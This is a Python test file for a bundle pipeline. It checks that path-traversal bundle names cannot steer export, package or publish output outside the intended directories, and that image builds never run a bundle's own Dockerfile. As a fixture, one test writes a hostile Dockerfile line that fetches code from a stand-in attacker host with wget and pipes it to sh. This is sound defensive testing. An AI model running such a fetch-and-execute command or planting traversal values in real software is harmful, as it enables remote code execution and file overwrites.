"""Hostile bundles at export and packaging: names that steer output paths, Dockerfiles that run."""

from __future__ import annotations

import io
import tarfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from craft import files_under, read_manifest, seal
from typer.testing import CliRunner

from pipeline.bundle.format import BundleError
from pipeline.cli.main import app

HOSTILE_NAME = "../../../escape/x"


def _rename(bundle: Path, name: str) -> None:
    seal(bundle, {**read_manifest(bundle), "name": name}, rehash=False)


def test_a_hostile_name_cannot_steer_export_outside(bundle_copy: Path, tmp_path: Path) -> None:
    pytest.importorskip("duckdb")
    from pipeline.bundle.export import export_bundle

    _rename(bundle_copy, HOSTILE_NAME)
    out = tmp_path / "a" / "b" / "c" / "out"
    before = files_under(tmp_path)
    with pytest.raises((BundleError, ValueError)):
        export_bundle(bundle_copy, "duckdb", out)
    written = files_under(tmp_path) - before
    assert not any("escape" in p for p in written), written


def test_a_hostile_name_cannot_steer_package_outside(copy_bundle: Callable[..., Path], tmp_path: Path) -> None:
    bundle = copy_bundle("a/b/c")  # the archive would land in <bundle>/../../../../escape: tmp_path/a/escape
    (tmp_path / "a" / "escape").mkdir()
    _rename(bundle, HOSTILE_NAME)
    before = files_under(tmp_path)
    result = CliRunner().invoke(app, ["package", str(bundle)])
    written = files_under(tmp_path) - before
    assert result.exit_code != 0
    assert not any("escape" in p for p in written), written


def test_a_hostile_name_cannot_steer_a_restamp_outside(bundle_copy: Path, tmp_path: Path) -> None:
    _rename(bundle_copy, HOSTILE_NAME)
    before = files_under(tmp_path)
    result = CliRunner().invoke(
        app, ["publish", str(bundle_copy), "--registry", str(tmp_path / "registry"), "--version", "2.0.0"]
    )
    written = files_under(tmp_path) - before
    assert result.exit_code != 0
    assert not any("escape" in p for p in written), written


class _FakeImages:
    def __init__(self, labels: dict[str, str]) -> None:
        self.labels = labels

    def get(self, name: str) -> Any:
        return type("Image", (), {"id": "sha256:fake", "labels": self.labels, "attrs": {"Size": 1}})()


class _FakeDocker:
    """Records the build context instead of building: enough to see what the builder would run."""

    def __init__(self, digest: str) -> None:
        self.contexts: list[bytes] = []
        self.buildargs: list[dict[str, str]] = []
        self.images = _FakeImages({"io.synthenv.bundle.digest": digest})
        self.api = self

    def build(self, fileobj: io.BytesIO, buildargs: dict[str, str], **_: Any) -> Any:
        self.contexts.append(fileobj.read())
        self.buildargs.append(buildargs)
        yield {"aux": {"ID": "sha256:fake"}}


def _context_files(raw: bytes) -> dict[str, bytes]:
    with tarfile.open(fileobj=io.BytesIO(raw)) as tar:
        return {m.name: tar.extractfile(m).read() for m in tar.getmembers() if m.isfile()}  # type: ignore[union-attr]


def _runs(dockerfile: bytes) -> list[str]:
    return [line for line in dockerfile.decode().splitlines() if line.strip().upper().startswith("RUN")]


def test_an_image_never_runs_the_bundles_own_dockerfile(bundle_copy: Path) -> None:
    from pipeline.package.image import build_bundle_image

    dockerfile = bundle_copy / "Dockerfile"
    dockerfile.write_text(dockerfile.read_text() + "RUN touch /pwned && wget http://evil.example/x | sh\n")
    sealed = seal(bundle_copy)
    client = _FakeDocker(sealed["digest"])
    build_bundle_image(client, [bundle_copy], runtime="synthenv-runtime:test")
    files = _context_files(client.contexts[0])
    assert not _runs(files["Dockerfile"])
    assert b"pwned" not in files["Dockerfile"]
    # The bundle's own Dockerfile travels as data only, inside the bundle directory.
    assert any(name.endswith("/Dockerfile") and b"pwned" in data for name, data in files.items())


def test_an_image_of_several_bundles_takes_only_listed_files(bundles: dict[str, Path], tmp_path: Path) -> None:
    from pipeline.package.image import build_bundle_image

    client = _FakeDocker("unused")
    build_bundle_image(client, [bundles["online_store"], bundles["clinic_appointments"]], runtime="rt:test")
    files = _context_files(client.contexts[0])
    assert not _runs(files["Dockerfile"])
    for path in (bundles["online_store"], bundles["clinic_appointments"]):
        listed = set(read_manifest(path)["files"]) | {"manifest.json"}
        prefix = f"bundles/{path.parent.name}/{path.name}/"
        assert {n.removeprefix(prefix) for n in files if n.startswith(prefix)} == listed
